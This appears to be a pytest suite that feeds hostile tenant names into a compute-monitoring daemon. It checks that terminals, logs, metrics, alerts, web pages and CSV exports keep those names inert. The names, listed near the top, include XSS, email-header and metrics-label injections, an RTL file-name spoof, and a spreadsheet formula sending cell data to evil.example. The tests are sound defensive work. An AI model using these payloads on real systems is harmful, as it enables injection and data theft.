"""Names that do harm, from the event to the page, the command line, the log, the metrics and alerts."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple

import httpx
import pytest
from prometheus_client.parser import text_string_to_metric_families

from monitor.log import tenant_reference
from tests.cli.command import fact, flopwatch, written
from tests.run.test_daemon import START_SECONDS, STOP_SECONDS, answer, free_port, wait_for
from tests.servers.receivers import Mailbox, WebServer, until
from tests.web.browsing import PASSWORD

ROOT = Path(__file__).resolve().parents[2]
NAMES = (
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example/?x="&A1,"see")',
    "\u202egnp.exe\u2066 of acme",
    "acme\r\nBcc: all@evil.example\nSet-Cookie: a=b",
    'a"} 1\nevil{x="',
    "</bdi></style><img src=x onerror=alert(1)>{{ 7*7 }}${7*7}%s%n",
)
REFUSED = ("a\x00b", "x" * 10_240)
MARKS = ("evil", "alert(1)", "gnp.exe", "HYPERLINK")  # a part of each name above, or of its lines
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class Running(NamedTuple):
    """A daemon that has taken the names in, and those whom it tells."""

    folder: Path
    port: int
    pages: int
    web: WebServer
    mail: Mailbox

    @property
    def config(self) -> Path:
        """Its settings."""
        return self.folder / "monitor.yaml"


def facts_of(number: int, name: str) -> list[dict[str, Any]]:
    """Whoever has such a name says so wherever a name can be, and trains on 4,096 accelerators for two months."""
    own = {"tenant": name, "allocation": name}
    profile = {"legal_name": name, "aliases": [name], "addresses": [name], "party": name, "hq_country": "CN"}
    held = {"accelerator": "H100 SXM 80GB", "count": 4_096, "region": name, "fabric": name, "image_digest": name}
    basis = dict.fromkeys(profile, "documented")
    profiled = fact("tenant.profiled", f"profile-{number}", "2026-01-01T00:00:00Z", basis=basis, **profile)
    profiled["data"] = {key: value for key, value in profiled["data"].items() if key != "allocation"} | {"tenant": name}
    begun = fact("allocation.started", f"start-{number}", "2026-01-01T01:00:00Z", **held, **own)
    still = fact("allocation.seen", f"seen-{number}", "2026-03-02T00:00:00Z", **own)
    return [{**one, "subject": name, "source": f"//{name}"} for one in (profiled, begun, still)]


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    folder = tmp_path_factory.mktemp("hostile")
    found = [one for number, name in enumerate((*NAMES, *REFUSED)) for one in facts_of(number, name)]
    written(folder / "events.jsonl", sorted(found, key=lambda one: one["time"]))
    web, mail = WebServer(), Mailbox(None)
    (folder / "secret").write_text("a secret of some length", encoding="utf-8")
    port, pages = free_port(), free_port()
    private = {"allow_private": True, "allow_insecure": True}
    url = f"http://127.0.0.1:{web.port}"
    hook = {"name": "hook", "kind": "webhook", "url": url, "key_file": f"{folder / 'secret'}", **private}
    post = {
        "name": "post",
        "kind": "email",
        "host": "127.0.0.1",
        "port": mail.port,
        "tls": "none",
        "sender": "a@example.org",
        **private,
    }
    settings = {
        "store_url": f"sqlite:///{folder / 'books.db'}",
        "files": {"paths": [f"{folder / 'events.jsonl'}"]},
        "http": {"port": port},
        "console": {"port": pages, "survey_seconds": 1},
        "notices": {"group_seconds": 0, "sinks": [hook, {**post, "to": ["b@example.org"]}]},
        "dead_letters": {"ratio_max": 1.0},
    }
    (folder / "monitor.yaml").write_text(json.dumps(settings), encoding="utf-8")
    command = [sys.executable, "-c", "from monitor.cli import main; main()", "run", "--role", "all"]
    with (folder / "log").open("wb") as log:
        process = subprocess.Popen(
            [*command, "--config", str(folder / "monitor.yaml")],
            stderr=log,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )
    try:
        wait_for(lambda: answer(port, "readyz")[0] == 200, START_SECONDS)
        until(lambda: set(NAMES) <= {one["tenant"] for one in noticed(web)}, START_SECONDS)
        until(lambda: len(mail.mails) >= len(NAMES), START_SECONDS)
        until(lambda: len(cases(folder)) >= len(NAMES), START_SECONDS)
        yield Running(folder, port, pages, web, mail)
        process.terminate()
        assert 0 == process.wait(STOP_SECONDS)
    finally:
        process.kill()
        process.wait()
        web.close()
        mail.close()


def noticed(web: WebServer) -> list[dict[str, Any]]:
    """Every notice that came to the web server."""
    return [notice for one in list(web.requests) for notice in one.document["notices"]]


def cases(folder: Path) -> list[dict[str, Any]]:
    """The cases that there are."""
    return list(flopwatch("cases", "--json", "--config", folder / "monitor.yaml").document)


def test_what_cannot_be_a_name_is_a_dead_letter_with_a_sentence(running: Running) -> None:
    """A null and ten thousand characters are not taken in; the list of dead letters is harmless on a terminal."""
    ran = flopwatch("dead-letters", "list", "--config", running.config)

    assert 3 * len(REFUSED) == len(flopwatch("dead-letters", "list", "--json", "--config", running.config).document)
    assert (0, None) == (ran.code, CONTROL.search(ran.out))


@pytest.mark.parametrize(
    "words", [("tenants",), ("flags",), ("cases",), ("runs",), *(("explain", name) for name in NAMES)]
)
def test_a_terminal_gets_no_control_character(running: Running, words: tuple[str, ...]) -> None:
    """What people read is escaped; programs get the names as they are."""
    ran, document = (
        flopwatch(*words, "--config", running.config),
        flopwatch(*words, "--json", "--config", running.config),
    )

    assert (0, 0) == (ran.code, document.code)
    assert None is CONTROL.search(ran.out)
    assert document.document


def test_the_log_names_nobody_and_stays_one_document_a_line(running: Running) -> None:
    """Each line is JSON, and no part of a name is in any."""
    text = (running.folder / "log").read_text(encoding="utf-8")

    assert all(isinstance(json.loads(line), dict) for line in text.splitlines())
    assert [] == [mark for mark in MARKS if mark in text]


def test_metrics_name_nobody_and_can_be_parsed(running: Running) -> None:
    """The page is one that Prometheus reads, and no part of a name is in it."""
    text = answer(running.port, "metrics")[1]
    families = [one.name for one in text_string_to_metric_families(text)]

    assert [] == [name for name in families if not name.startswith(("flopwatch_", "python_", "process_"))]
    assert [] == [mark for mark in MARKS if mark in text]


def test_alerts_say_the_name_and_no_more(running: Running) -> None:
    """A webhook gets it as text in JSON; a mail has the recipients of the settings and no header of its making."""
    told = {one["tenant"] for one in noticed(running.web)}
    heads = [(to, mail["Bcc"], mail["Set-Cookie"]) for to, mail in running.mail.mails]

    assert set(NAMES) == told
    assert {"b@example.org"} == {one for to, _, _ in heads for one in to}
    assert {(None, None)} == {head[1:] for head in heads}
    assert all(CONTROL.search(str(mail["Subject"])) is None for _, mail in running.mail.mails)


class Elements(HTMLParser):
    """The scripts, images and handlers of a page, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str | None] = []
        self.intruders: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        said = dict(attributes)
        self.scripts += [said.get("src")] if tag == "script" else []
        self.intruders += [name for name in (tag, *said) if name == "img" or name.startswith("on")]

    def handle_data(self, data: str) -> None:
        self.text += data


def visible(name: str) -> str:
    """A name as a page shows it: what nobody would see is its number."""
    return "".join(letter if letter.isprintable() else f"⟨{ord(letter):04X}⟩" for letter in name)


def test_pages_show_names_and_do_nothing_that_they_say(running: Running) -> None:
    """On each page of a reviewer there is no script but ours and no handler, and no name turns the text around it."""
    (running.folder / "password").write_text(PASSWORD, encoding="utf-8")
    account = ("rita", "--role", "reviewer", "--password-file", running.folder / "password")
    assert 0 == flopwatch("users", "add", *account, "--config", running.config).code
    base = f"http://127.0.0.1:{running.pages}"
    listed = ["/queue", "/tenants", "/suppressed", *(f"/cases/{one['case']}" for one in cases(running.folder))]
    seen: dict[str, Elements] = {}
    with httpx.Client(base_url=base, headers={"Origin": base}, timeout=60) as client:
        client.post("/sign-in", data={"name": "rita", "password": PASSWORD, "next": "/queue"})
        for path in [*listed, *(f"/tenants/{tenant_reference(name)}" for name in NAMES)]:
            page = client.get(path)
            assert 200 == page.status_code, path
            seen[path] = Elements()
            seen[path].feed(page.text)

    shown = [seen[f"/tenants/{tenant_reference(name)}"].text for name in NAMES]
    assert [] == [name for name, text in zip(NAMES, shown, strict=True) if visible(name) not in text]
    assert [] == [path for path, one in seen.items() if one.intruders or CONTROL.search(one.text)]
    scripts = {src for one in seen.values() for src in one.scripts}
    assert all(src is not None and src.startswith("/static/") for src in scripts)


@pytest.mark.parametrize("table", ["tenants", "flags", "cases", "runs"])
def test_a_table_of_them_holds_no_formula(running: Running, table: str) -> None:
    """A sheet shows each name as text, and a program that takes the apostrophe away has it as it is."""
    archive = running.folder / f"{table}.zip"
    named = ("--recipient", "audit", "--legal-basis", "a test of ours", "--config", running.config)
    assert 0 == flopwatch("export", table, "--out", archive, *named).code
    with zipfile.ZipFile(archive) as packed:
        (name,) = [one for one in packed.namelist() if one.endswith(".csv")]
        rows = list(csv.reader(io.StringIO(packed.read(name).decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]

    assert len(rows) > len(NAMES)
    assert [] == [cell for cell in cells if cell.strip().startswith(("=", "+", "@", "\t", "\r"))]
    assert set(NAMES) <= {part for cell in cells for part in (cell.removeprefix("'"), *cell.split(" ", 1)[1:])}
